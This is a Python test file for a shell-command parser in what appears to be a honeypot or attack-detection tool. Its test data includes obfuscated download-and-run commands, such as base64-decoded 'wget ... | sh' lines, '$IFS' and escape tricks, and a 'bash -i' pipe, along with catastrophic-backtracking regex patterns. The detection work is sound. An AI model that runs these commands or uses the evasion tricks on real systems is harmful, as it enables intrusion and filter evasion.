"""Command lines as a shell would see them: what is cut, looked through, removed and decoded, and its bounds."""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from decnet.shell.views import MAX_VIEWS, View, Views, views
from decnet.ttp.matcher import Failures, RuleIndex
from tests.packkit import index as pack_index

SIZE = 100_000


def argv0s(line: str) -> list[str]:
    return list(dict.fromkeys(v.argv0 for v in views(line).views if v.kind != "decoded"))


def texts(line: str, kind: str) -> list[str]:
    return [v.text for v in views(line).views if v.kind == kind]


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("uname -a", ["uname"]),
        ("cd /tmp; wget x", ["cd", "wget"]),
        ("cd /tmp && wget x || curl y", ["cd", "wget", "curl"]),
        ("cat a | grep b", ["cat", "grep"]),
        ("sleep 9 & id", ["sleep", "id"]),
        ("uname\nid", ["uname", "id"]),
        ("echo 'a;b' ; id", ["echo", "id"]),
        ('echo "a|b && c"; id', ["echo", "id"]),
        ("echo a\\;b; id", ["echo", "id"]),
        ("echo $(wget x)", ["echo", "wget"]),
        ("echo `wget x`", ["echo", "wget"]),
        ('echo "$(wget x)"', ["echo", "wget"]),
        ('echo "`wget x`"', ["echo", "wget"]),
        ("echo '$(wget x)'", ["echo"]),
        ("echo $(cat $(which id))", ["echo", "cat", "which"]),
        ("(cd /tmp; id)", ["cd", "id"]),
        ("{ id; }", ["id"]),
        ("if true; then wget x; fi", ["true", "wget"]),
        ("while :; do id; done", [":", "id"]),
        ("! id", ["id"]),
        (">out id", ["id"]),
        ("id >out 2>&1 <in", ["id"]),
        ("2>/dev/null id", ["id"]),
        ("diff <(id) >(cat)", ["diff", "id", "cat"]),
        ("# wget x", [""]),
        ("id # wget x", ["id"]),
        ("echo 'open; wget x", ["echo"]),
        ("echo 'open\nwget x", ["echo", "wget"]),
        ('echo "open\nwget x', ["echo", "wget"]),
        ("cat <<E\nwget x\nE\nid", ["cat", "id"]),
        ("cat <<'E' | sh\nwget x\nE", ["cat", "sh", "wget"]),
        ("cat <<-E\n\twget x\n\tE\nid", ["cat", "id"]),
        ("cat <<E\nwget x", ["cat"]),
    ],
)
def test_lines_are_cut_into_commands(line, wanted):
    assert argv0s(line) == wanted, views(line)


@pytest.mark.parametrize(
    "line",
    [
        "sudo wget x",
        "sudo -u root -E wget x",
        "env A=1 wget x",
        "env -u HOME -i wget x",
        "nohup wget x",
        "nice -n 5 wget x",
        "timeout 5 wget x",
        "timeout -k 1s 5m wget x",
        "time wget x",
        "exec wget x",
        "eval wget x",
        "eval 'wget x'",
        "xargs -I {} -n 1 wget x",
        "stdbuf -o L wget x",
        "busybox wget x",
        "/bin/busybox wget x",
        "/usr/bin/wget x",
        "A=1 B=2 wget x",
        "A='b c' wget x",
        "sh -c 'wget x'",
        "bash -lc 'wget x'",
        "/bin/dash -c 'wget x'",
        "ash -c wget\\ x",
        "su -c 'wget x' root",
        "su root -c 'wget x'",
        "sudo -u a nohup env A=1 sh -c 'timeout 5 wget x'",
        "sh -c \"sh -c 'wget x'\"",
        "w''get x",
        'w""get x',
        "w'g'et x",
        "\\w\\g\\e\\t x",
        "wget${IFS}x",
        "wget$IFS'x'",
        "{ wget x; }",
        "$'wget' x",
        "$'\\x77get' x",
        "$'\\167get' x",
        "wg\\\net x",
    ],
)
def test_what_is_looked_through_or_removed(line):
    assert any(v.argv0 == "wget" and v.argv[1:2] == ("x",) for v in views(line).views), views(line)


@pytest.mark.parametrize(
    "line",
    [
        "echo {} | base64 -d",
        "echo '{}'|base64 --decode | sh",
        'echo -n "{}" | base64 -di',
        "printf {} | base64 -d",
        "printf '%s' {} | base64 -d",
        'printf "%s\\n" {} | base64 -D',
        "echo {} | /usr/bin/base64 -d",
        "echo {} | busybox base64 -d",
        "base64 -d <<< {}",
        "base64 -d <<<'{}' | sh",
        "echo {} | openssl base64 -d",
        "echo {} | openssl enc -base64 -d -A",
    ],
)
def test_base64_is_decoded(line):
    secret = "wget http://203.0.113.1/a"
    assert texts(line.format(base64.b64encode(secret.encode()).decode()), "decoded") == [secret]


@pytest.mark.parametrize(
    "line",
    [
        "echo 77676574 | xxd -r -p",
        "echo '77 67 65 74'|xxd -p -r",
        "printf 77676574 | xxd -r -ps",
        "xxd -r -p <<< 77676574",
    ],
)
def test_hex_is_decoded(line):
    assert texts(line, "decoded") == ["wget"]


@pytest.mark.parametrize(
    "line",
    [
        "echo -e '\\x77\\x67\\x65\\x74'",
        "echo -ne '\\167\\147\\145\\164'",
        "printf '\\167\\147\\145\\164'",
        "printf '\\x77get'",
        "echo -e $'\\x77get'",
    ],
)
def test_escapes_are_decoded(line):
    assert any("wget" in text for text in texts(line, "decoded")), views(line)


@pytest.mark.parametrize(
    "line", ["echo $A | base64 -d", "echo aGk=", "base64 file", "echo aGk= | base64", "cat x"]
)
def test_what_is_no_decodable_literal_stays(line):
    assert not texts(line, "decoded")


@pytest.mark.parametrize(
    "line",
    [
        "command wget http://203.0.113.9/x",
        "builtin command wget http://203.0.113.9/x",
        "setsid -f wget http://203.0.113.9/x",
        "doas -u bob wget http://203.0.113.9/x",
        "ionice -c 3 nice -n 19 wget http://203.0.113.9/x",
        "{wget,http://203.0.113.9/x}",
        "setsid sh -c 'wget http://203.0.113.9/x'",
    ],
)
def test_launchers_and_commands_without_a_space_are_looked_through(line):
    assert "wget http://203.0.113.9/x" in texts(line, "command")


@pytest.mark.parametrize(
    "line",
    [
        "bash <<EOF\nwget http://203.0.113.9/x\nEOF",
        "bash -s <<'E'\ncd /tmp\nwget http://203.0.113.9/x\nE\nid",
        "bash <<< 'wget http://203.0.113.9/x'",
        "echo 'cd /tmp; wget http://203.0.113.9/x' | sudo sh -s",
        "printf 'wget http://203.0.113.9/x' | /bin/bash",
        "zsh -c 'wget http://203.0.113.9/x'",
        "w$@get http://203.0.113.9/x",
        "find / -name a -exec wget http://203.0.113.9/x \\; -print",
    ],
)
def test_what_a_shell_is_given_to_read_is_looked_at(line):
    assert "wget http://203.0.113.9/x" in [v.text for v in views(line).views]


@pytest.mark.parametrize(
    "line",
    [
        "cat > f <<E\nwget x\nE",
        "cat <<< 'wget x'",
        "echo 'wget x' | cat",
        "echo 'wget x' | shuf",
        "bash -c 'echo $@'",
    ],
)
def test_what_others_are_given_to_read_is_text(line):
    assert "wget" not in [v.argv0 for v in views(line).views]


def test_asking_where_a_program_is_runs_nothing():
    assert argv0s("command -v wget") == ["command"]
    assert argv0s("cp x{,.bak} y") == ["cp"]


@pytest.mark.parametrize(
    "line",
    [
        f"echo {base64.b64encode(b'cd /tmp; wget http://203.0.113.9/x').decode()} | base64 -d | sh",
        f"bash -c '{{echo,{base64.b64encode(b'wget http://203.0.113.9/x').decode()}}}|{{base64,-d}}|{{bash,-i}}'",
        r"""eval "$(printf '\x77\x67\x65\x74 http://203.0.113.9/x')" """,
        r"echo -e 'cd /tmp\073\x77get http://203.0.113.9/x' | sh",
    ],
)
def test_every_command_of_a_decoded_text_is_a_view(line):
    assert "wget http://203.0.113.9/x" in texts(line, "decoded")


def test_a_decoded_program_is_no_script():
    blob = base64.b64encode(bytes(range(256)) * 40 + b";wget x").decode()
    found = views(f"echo {blob} | base64 -d > /tmp/x")
    assert len([view for view in found.views if view.kind == "decoded"]) == 1
    assert not found.capped


def test_views_are_the_line_then_commands_from_left_to_right_then_decoded_texts():
    seen = views("a x; echo d2dldA== | base64 -d; b $(c)").views
    kinds = [v.kind for v in seen]
    assert kinds == sorted(kinds, key=["line", "command", "decoded"].index)
    assert [v.argv0 for v in seen if v.kind == "command"] == ["a", "echo", "base64", "b", "c"]
    assert [v.text for v in seen if v.kind == "decoded"] == ["wget"]
    assert len({v.text for v in seen}) == len(seen)


def test_a_here_document_is_text_of_its_command():
    (cat, *_rest) = [v for v in views("cat > /tmp/x <<E\nwget http://y\nE\nid").views if v.kind == "command"]
    assert "wget http://y" in cat.text


@settings(deadline=None, max_examples=150)
@given(st.text(st.sampled_from("ab ;|&'\"\\$`(){}<>#\n=-x") | st.characters(codec="utf-8"), max_size=200))
def test_any_text_has_bounded_views_and_is_itself_the_first(line):
    seen = views(line)
    assert isinstance(seen, Views)
    assert seen.views[0].text == line
    assert len(seen.views) <= MAX_VIEWS
    assert all(isinstance(v, View) for v in seen.views)
    assert views(line) == seen


def rep(text: str) -> str:
    return (text * (SIZE // len(text) + 1))[:SIZE]


PADDING = {
    "quotes": rep("'\""),
    "open double quotes": rep('"a b'),
    "substitutions": rep("$("),
    "closed substitutions": rep("$(a)"),
    "backticks": rep("`a`"),
    "open IFS": rep('"${IFS'),
    "keywords": rep("if "),
    "assignments": rep("A=1 "),
    "here-strings": rep("base64 -d <<"),
    "escapes": rep("echo -e \\x41\\x42;"),
    "here-documents": "".join(f"cat <<t{i}\nt{i}\n" for i in range(6000)),
    "commands": "".join(f"a{i};" for i in range(16_000)),
    "parentheses": rep("(a)"),
    "pipes": rep("a|"),
    "wrappers": rep("sudo "),
    "evals": rep("eval "),
    "shells": rep("sh -c 'a' "),
    "nested shells": rep("sh -c \"sh -c 'sh -c ls'\";"),
    "decoded": "".join(f"echo QUFB{i:04d}|base64 -d;" for i in range(4500)),
    "mixed": rep("a'b\"c`d$(e\\f;"),
}
HARMLESS = {
    "one word": rep("a"),
    "words": rep("base64 "),
    "options": rep("echo -n "),
    "white space": "echo" + rep(" ") + "x",
    "an open quote": "echo '" + rep("a b; "),
    "a here-document": "cat <<E\n" + rep("\t\tE x\n"),
}
NESTED_QUANTIFIERS = ("(a+)+$", "^(\\w+\\s?)*$", "(x+x+)+y", "(?:a|aa)+b$", "(.*)*z{3}q")


def best_ms(work, times: int = 4) -> float:
    best = 1e9
    for _ in range(times):
        start = time.process_time()
        work()
        best = min(best, time.process_time() - start)
    return best * 1000


@pytest.mark.parametrize("name", PADDING)
def test_padding_beyond_the_bounds_is_tagged_by_a_shipped_rule(name):
    assert views(PADDING[name]).capped
    hits, capped = pack_index().command_hits(PADDING[name] + "; wget http://203.0.113.9/x", {}, Failures())
    assert capped
    assert "R0990" in {hit.rule.rule_id for hit in hits}


@pytest.mark.parametrize("name", PADDING | HARMLESS)
def test_100_kb_of_anything_cost_linear_time(name):
    text = (PADDING | HARMLESS)[name]
    half, whole = text[: SIZE // 2], text[:SIZE]
    pack_index().command_hits(whole, {}, Failures())
    assert best_ms(lambda: pack_index().command_hits(whole, {}, Failures())) < 150
    assert best_ms(lambda: views(whole)) < 12 + 4 * best_ms(lambda: views(half))


@pytest.mark.parametrize("pattern", NESTED_QUANTIFIERS)
def test_nested_quantifiers_cost_linear_time(pattern):
    from decnet.ttp.loader import load_bytes

    text = (
        "rule_id: R1\nrule_version: 1\nname: n\ndescription: d\napplies_to: [command]\n"
        f"match: {{pattern: '{pattern}'}}\n"
        "emits: [{tactic: TA0011, technique_id: T1105, confidence: 0.8}]\n"
    )
    rule, errors = load_bytes(text.encode(), "R.yaml")
    assert rule, errors
    index = RuleIndex([rule])
    for line in ("a" * SIZE + "!", "x" * SIZE, "aaaa " * (SIZE // 5) + "!"):
        assert best_ms(lambda line=line: index._kinds["command"].candidates(line)) < 5 * 3
        assert best_ms(lambda line=line: index.command_hits(line, {}, Failures())) < 50 * 3


def test_a_session_of_3000_commands_and_1_mb_is_tagged_whole():
    pad = "x" * 330
    lines = [f"echo {i} {pad}; wget http://203.0.113.9/{i}" for i in range(3000)]
    assert sum(map(len, lines)) > 1_000_000
    failures = Failures()
    start = time.process_time()
    found = [pack_index().command_hits(line, {}, failures)[0] for line in lines]
    assert time.process_time() - start < 5
    assert all(any(h.rule.emits[0].technique_id == "T1105" for h in hits) for hits in found)


@pytest.mark.parametrize(
    ("line", "piped"),
    [
        ("./a | sort", {"./a"}),
        ("./a 2>&1 |& tee log; ./b", {"./a 2>&1", "./a"}),
        ("yes | ./a", {"yes"}),
        ("./a || ./b", set()),
        ("./a; echo $(./b)", set()),
        ("ssh host './a | cat'", {"./a"}),
    ],
)
def test_a_view_tells_whether_others_read_its_output(line: str, piped: set[str]) -> None:
    assert {v.text for v in views(line).views if v.piped and v.kind == "command"} == piped


def test_a_line_is_read_by_others_when_its_first_command_is() -> None:
    lines = ("./a | sort", "./a; ./b | sort", "yes | ./a", "./a || ./b", "./a")
    assert [views(line).views[0].piped for line in lines] == [True, False, True, False, False]
